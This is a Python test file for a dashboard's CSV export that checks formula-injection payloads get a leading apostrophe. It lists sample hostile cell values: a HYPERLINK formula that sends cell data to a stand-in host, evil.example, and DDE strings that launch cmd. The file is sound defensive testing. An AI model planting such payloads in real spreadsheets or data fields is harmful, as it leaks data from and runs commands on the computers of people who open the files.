"""CSV exports neutralise formulas (OWASP CSV injection): a cell that starts with = + - @ TAB or CR
gets a leading apostrophe; numbers stay numbers. Hostile runbook names go through a real export."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine

from dashboard.csv_export import neutralise
from tests.latency.factory import job, make_account, make_group
from workers.models import Job

NOW = datetime(2026, 11, 25, 12, 30, tzinfo=UTC)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_looking_string_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12])
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value


def test_plain_text_is_unchanged():
    assert neutralise("Patch-Servers = weekly") == "Patch-Servers = weekly"


@pytest.mark.django_db
def test_hostile_azure_names_are_defused_in_a_real_export(client_in):
    with time_machine.travel(NOW, tick=False):
        group = make_group(make_account(), "=cmd|'/C calc'!A0")
        Job.objects.bulk_create([job(group, NOW - timedelta(minutes=5 + i), status="New", runbook=name)
                                 for i, name in enumerate(HOSTILE)])
        response = client_in.get("/latency/", {"format": "csv", "table": "queued"})
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))

    body = rows[1:]
    assert len(body) == len(HOSTILE)
    assert {r[1] for r in body} == {"'" + name for name in HOSTILE}
    assert all(r[3] == "'=cmd|'/C calc'!A0" for r in body)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
